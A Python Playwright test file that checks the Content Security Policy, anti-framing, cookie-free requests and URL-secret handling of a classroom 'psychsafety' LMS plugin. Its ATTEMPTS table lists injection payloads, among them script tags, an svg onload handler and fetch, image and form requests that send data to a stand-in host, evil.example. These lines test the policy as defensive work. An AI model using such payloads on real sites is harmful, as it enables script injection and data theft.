"""The pages without an LMS around them, and what no page may ask for."""

import pytest
from playwright.sync_api import expect

POLICY_BREACHES = "addEventListener('securitypolicyviolation', (e) => console.error('policy: ' + e.violatedDirective))"


PAGES = ["join", "screen", "drive", "tablet", "summary"]
#: Kept in the page itself, since what is tried below is meant to be complained about.
BREACHES = """
  window.breaches = [];
  addEventListener("securitypolicyviolation", (event) => breaches.push(event.effectiveDirective));
"""
HEARD = "addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), {once: true});"
#: What somebody who got markup into a page would try, and the rule of the policy that stops it.
ATTEMPTS = {
    "script-src-elem": [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'data:text/javascript,ran=true'}))",
    ],
    "script-src-attr": ["document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = true\"></svg>')"],
    "style-src-elem": ["document.body.insertAdjacentHTML('beforeend', '<style>main { display: none }</style>')"],
    "style-src-attr": ["document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed\">x</p>')"],
    "img-src": ["new Image().src = 'https://evil.example/?stolen'"],
    "connect-src": ["fetch('https://evil.example/', {method: 'POST', mode: 'no-cors'}).catch(() => 0)"],
    "frame-src": ["document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/psychsafety/join/\"></iframe>')"],
    "form-action": [
        "document.body.appendChild(Object.assign(document.createElement('form'), {action: 'https://evil.example/'})).submit()"
    ],
    "base-uri": ["document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')"],
}


@pytest.fixture
def strict(browser, site):
    """A page of ours in a browser of its own; `addresses` is all that it got an answer from."""
    context = browser.new_context()
    context.add_init_script(BREACHES)
    page = context.new_page()
    page.addresses = []
    page.on("requestfinished", lambda request: page.addresses.append(request.url))

    def opened(name: str):
        page.goto(f"{site.url}/psychsafety/{name}/")
        expect(page.locator("main")).not_to_be_empty()
        return page

    yield opened
    context.close()


@pytest.mark.parametrize("page_name", PAGES)
def test_each_page_keeps_to_its_own_policy(strict, site, page_name):
    page = strict(page_name)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("breaches") == []
    files = [one for one in page.addresses if one.endswith((".js", ".css", ".svg"))]
    assert len(files) >= 2
    assert all(
        one.startswith((f"{site.url}/static/psychsafety_xblock/", f"{site.url}/psychsafety/api/")) for one in files
    )


@pytest.mark.parametrize("page_name", PAGES)
def test_what_is_injected_into_a_page_does_not_run(strict, site, page_name):
    page = strict(page_name)
    for rule, attempts in ATTEMPTS.items():
        for attempt in attempts:
            stopped = page.evaluate(f"() => new Promise((done) => {{ {HEARD} {attempt}; }})")
            assert stopped == rule, attempt
    assert page.evaluate("window.ran") is None
    assert all(one.startswith(site.url) for one in page.addresses)


@pytest.mark.parametrize("page_name", PAGES)
def test_no_page_shows_in_a_frame_of_any_page(browser, site, page_name):
    """Of this very site neither: nobody is led to press a button that they do not see."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site.url}/")
    page.evaluate(
        """address => new Promise((done) => {
          const frame = document.createElement("iframe");
          frame.onload = done;
          frame.src = address;
          document.body.append(frame);
        })""",
        f"{site.url}/psychsafety/{page_name}/",
    )
    assert page.frames[-1].locator("#psychsafety").count() == 0
    context.close()


@pytest.mark.parametrize("page_name", PAGES)
def test_the_policy_allows_nothing_inline_and_no_other_host(room, page_name):
    page = room.context("visitor").new_page()
    answer = page.goto(f"{room.url}/psychsafety/{page_name}/")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert "set-cookie" not in answer.headers
    assert page.locator("script:not([src]), [style], style").count() == 0


def test_a_whole_round_breaks_no_policy_and_asks_no_other_host(room):
    """The room's end asserts that no browser complained; this adds the policy's own events."""
    leader = room.leader()
    leader.page.context.add_init_script(POLICY_BREACHES)
    code = leader.convene()
    phone = room.guest()
    phone.page.context.add_init_script(POLICY_BREACHES)
    phone.join(code)
    address = room.wire.handler("session", "leader", "current_session")["screen_url"]
    screen = room.screen(address)
    screen.page.add_init_script(POLICY_BREACHES)
    screen.page.reload()
    others = room.wire.guests(code, 4)
    expect(screen.page.get_by_role("img")).to_be_visible()
    leader.expect_seats(5)
    leader.start()
    phone.send("one of them")
    for seat in others:
        room.wire.answer(seat, "plain")
    leader.reveal()
    for person in (leader, phone, screen):
        person.expect_wall(5)
    phone.resonate(0)
    assert room.witness.complaints == []


def test_no_answer_travels_with_a_cookie(room):
    leader = room.leader()
    leader.convene()
    (amal,) = room.team(leader, learners=("amal",))
    room.wire.guests(leader.code(), 3)
    leader.expect_seats(4)
    leader.start()
    with amal.page.expect_request("**/answers") as sent:
        amal.send("without a name")
    headers = sent.value.all_headers()
    assert "cookie" not in headers
    assert headers["authorization"].startswith("Bearer ")
    assert [name for name, value in headers.items() if "amal" in value.lower()] == []
    with leader.page.expect_request("**/commands") as led:
        leader.press("One more minute")
    assert "cookie" not in led.value.all_headers()


def test_secrets_leave_the_address_at_once(room):
    leader = room.leader()
    code = leader.convene()
    address = room.wire.handler("session", "leader", "current_session")["screen_url"]
    guest = room.guest()
    guest.scan(code)
    expect(guest.button("Take a seat")).to_be_visible()
    screen = room.screen(address)
    screen.expect_text("Take a seat")
    for person in (guest, screen):
        assert "#" not in person.page.url
